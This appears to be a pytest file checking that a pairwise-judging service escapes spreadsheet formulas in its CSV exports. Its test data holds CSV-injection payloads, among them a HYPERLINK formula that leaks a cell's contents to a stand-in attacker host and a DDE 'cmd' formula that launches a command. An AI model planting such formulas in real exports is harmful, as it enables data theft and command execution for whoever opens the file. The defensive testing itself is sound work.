"""Spreadsheet formulas never reach a CSV the service writes; JSONL keeps the raw text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from pairwise import csv_safe

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tx", "\uff1dcmd", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_neutralised_and_comes_back_exactly(text) -> None:
    escaped = csv_safe.cell(text)
    assert escaped == "'" + text
    assert csv_safe.unescape(escaped) == text


def test_plain_text_and_numbers_are_untouched() -> None:
    for value in ("model-a", "keeps the weave", "", 3, -1.5, None):
        assert csv_safe.cell(value) == value
    assert csv_safe.unescape("'plain") == "'plain"  # not ours: left alone


def test_every_csv_writer_in_the_package_is_the_safe_one() -> None:
    """One central writer: a new csv.writer anywhere else fails here."""
    root = Path(csv_safe.__file__).parent
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert offenders == []


def _judge(client, token, rationale: str) -> None:
    issued = client.post("/api/v1/pools/pool-1/assignments", headers=token)
    assert issued.status_code == 201
    response = client.post(issued.json["submit_url"], headers=token,
                           json={"choice": "left", "rationale": rationale})
    assert response.status_code == 201, response.json


def test_judgments_exports_neutralise_rationales(client, runner, make_pool, make_user, token_for) -> None:
    make_pool(rationale_min_chars=3)
    expert = token_for(make_user("expert"))
    formula = '=HYPERLINK("http://evil.example/","more")'
    _judge(client, expert, formula)
    researcher = token_for(make_user("researcher"))

    text = client.get("/api/v1/pools/pool-1/judgments?format=csv", headers=researcher).get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["rationale"] == "'" + formula
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())

    jsonl = client.get("/api/v1/pools/pool-1/judgments?format=jsonl", headers=researcher).get_data(as_text=True)
    assert json.loads(jsonl.splitlines()[0])["rationale"] == formula  # raw in JSONL

    cli = runner.invoke(args=["export", "judgments", "pool-1", "--format", "csv"])
    assert cli.exit_code == 0
    assert next(csv.DictReader(io.StringIO(cli.output)))["rationale"] == "'" + formula


def test_leaderboard_csv_neutralises_model_names() -> None:
    from pairwise.leaderboard_formats import COLUMNS, to_csv
    row = {c: 0 for c in COLUMNS} | {"model": "=cmd|' /C calc'!A0", "flags": "@x", "category": "all"}
    parsed = next(csv.DictReader(io.StringIO(to_csv([{"rows": [row]}]))))
    assert parsed["model"] == "'=cmd|' /C calc'!A0" and parsed["flags"] == "'@x"
    assert parsed["score"] == "0"


def test_rank_reads_escaped_model_names_back_exactly(runner, tmp_path) -> None:
    path = tmp_path / "judgments.csv"
    buffer = io.StringIO()
    writer = csv_safe.writer(buffer, lineterminator="\n")
    writer.writerow(["model_left", "model_right", "choice"])
    writer.writerows([["-minus", "+plus", "left"], ["+plus", "-minus", "left"], ["-minus", "+plus", "left"]])
    path.write_text(buffer.getvalue())
    assert "'-minus" in path.read_text()
    result = runner.invoke(args=["rank", str(path), "--format", "json", "--bootstrap", "0"])
    assert result.exit_code == 0, result.output
    assert {r["model"] for r in json.loads(result.output)["rows"]} == {"-minus", "+plus"}
